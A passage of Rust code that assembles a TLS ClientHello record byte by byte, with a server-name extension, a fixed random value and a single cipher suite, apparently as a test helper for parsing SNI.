    let extension = [&[0, 0][..], &length(list.len()), &list].concat();
    let body = [
        &[3, 3][..],
        &[7; 32],
        &[0, 0, 2, 0xc0, 0x2f, 1, 0],
        &length(extension.len()),
        &extension,
    ]
    .concat();
    let handshake = [&[1, 0][..], &length(body.len()), &body].concat();
    [&[22, 3, 1][..], &length(handshake.len()), &handshake].concat()
}
